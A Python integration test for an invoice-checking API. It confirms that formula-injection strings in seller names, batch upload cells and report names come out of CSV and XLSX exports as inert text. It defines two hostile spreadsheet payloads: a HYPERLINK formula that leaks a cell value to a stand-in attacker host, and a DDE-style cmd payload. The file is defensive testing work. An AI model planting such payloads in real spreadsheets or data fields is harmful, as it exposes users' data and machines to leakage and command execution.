"""Formula injection through the real pipeline (issue 16 item 5): a seller name from the register and a
rejected batch cell that start with `=`/`@` reach the history export, the batch results file and a
custom report as inert text: CSV cells get a leading apostrophe, XLSX cells are strings, never `<f>`."""

from __future__ import annotations

import asyncio
import csv
import io
import time
import zipfile
from datetime import date, timedelta

import httpx
import pytest

from schemas.events import Party
from tests.factories import BUYER, api_check_body, issued
from tests.integration.conftest import Org, publish_registered

pytestmark = pytest.mark.integration
SELLER_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"查看发票")'
BAD_CELL = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _no_formulas(xlsx: bytes) -> str:
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "a live formula in the workbook"
    return sheet


async def test_hostile_texts_leave_every_export_as_inert_text(
    api_url: str, publisher, org: Org, settings
) -> None:  # type: ignore[no-untyped-def]
    inv = issued(number="70990001").model_copy(
        update={"seller": Party(name=SELLER_NAME, tax_id="91110108MA01ABCD2X"), "buyer": BUYER}
    )
    await publish_registered(publisher, settings, inv)
    check = api_check_body(inv)
    async with httpx.AsyncClient(base_url=api_url, headers=org.headers, timeout=30) as client:
        answer = await client.post("/v1/checks", params={"wait": 5}, json=check)
        assert answer.status_code == 200 and answer.json()["verdict"] == "consistent", answer.text
        deadline = time.monotonic() + 20
        while not (await client.get("/v1/history", params={"invoice_number": "70990001"})).json()["data"]:
            assert time.monotonic() < deadline, "the check never reached the history"
            await asyncio.sleep(0.3)

        # history export
        query = {"invoice_number": "70990001"}
        rows = _csv_rows((await client.get("/v1/history/export", params=query | {"format": "csv"})).content)
        seller = rows[0].index("seller_name")
        assert rows[1][seller] == "'" + SELLER_NAME
        sheet = _no_formulas(
            (await client.get("/v1/history/export", params=query | {"format": "xlsx"})).content
        )
        assert "HYPERLINK" in sheet  # there, as text

        # batch results: the genuine row's seller and a rejected row's raw cell
        upload = "发票代码,发票号码,开票日期,金额,校验码后6位\n"
        upload += f"{inv.invoice_code},{inv.invoice_number},{inv.issue_date},,{inv.check_code[-6:]}\n"
        upload += f'"{BAD_CELL}",123,2026-11-20,100.00,\n'
        made = await client.post("/v1/batches", files={"files": ("清单.csv", upload.encode(), "text/csv")})
        assert made.status_code == 202, made.text
        location = made.json()["location"]
        deadline = time.monotonic() + 60
        while not (await client.get(location)).json()["finished"]:
            assert time.monotonic() < deadline, "batch not finished"
            await asyncio.sleep(0.3)
        results = _csv_rows((await client.get(f"{location}/results")).content)
        assert results[1][15] == "'" + SELLER_NAME and results[2][3] == "'" + BAD_CELL
        _no_formulas((await client.get(f"{location}/results", params={"format": "xlsx"})).content)

        # a custom report grouped by seller
        today = date.today()
        report = {
            "name": "=恶意报表",
            "dimensions": ["seller"],
            "metrics": ["checks"],
            "filters": {},
            "date_from": (today - timedelta(days=2)).isoformat(),
            "date_to": (today + timedelta(days=1)).isoformat(),
            "format": "csv",
        }
        saved = await client.post("/v1/reports", json=report)
        assert saved.status_code == 201, saved.text
        run = await client.post(f"/v1/reports/{saved.json()['id']}/run")
        cells = [cell for row in _csv_rows(run.content) for cell in row]
        assert "'" + SELLER_NAME in cells and SELLER_NAME not in cells
        _no_formulas(
            (await client.post(f"/v1/reports/{saved.json()['id']}/run", params={"format": "xlsx"})).content
        )
